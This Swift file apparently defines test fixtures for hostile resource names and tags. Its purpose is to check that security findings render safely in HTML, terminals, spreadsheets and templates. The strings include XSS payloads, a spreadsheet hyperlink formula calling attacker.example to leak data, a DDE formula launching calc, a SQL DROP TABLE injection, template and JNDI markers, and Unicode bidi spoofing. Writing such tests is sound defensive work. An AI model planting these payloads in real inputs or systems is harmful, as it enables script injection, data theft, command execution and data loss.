/// Words that an attacker could put into a resource's name or tags, and that end up in a finding.
///
/// Each is harmless as text and harmful where it is pasted: HTML, an attribute, a terminal, a
/// spreadsheet cell, a template, a reader's eye.
enum Hostile {
  static let title =
    "<script>alert(document.domain)</script> \" onmouseover=\"alert(1) {{secret}} on \u{202E}gpj.exe"
  static let description =
    "=HYPERLINK(\"http://attacker.example/?leak\",\"open\")\n\u{1B}[31mverified\u{1B}[0m "
    + "{{{payload}}} {{#each}} ]]> <![CDATA[ & <img src=x onerror=alert(2)> "
    + "${jndi:none} '; DROP TABLE finding;--"
  static let tags: [(String, JSONTree)] = [
    ("Name", "=cmd|'/C calc'!A0"), ("Owner", "+1-555-0100\t@SUM(A1:A9)"),
    ("<b>Stage", "\" onmouseover=\"alert(3)"), ("Note", "\u{202E}\u{2066}txt.live\u{2069}\u{200B}"),
  ]
}
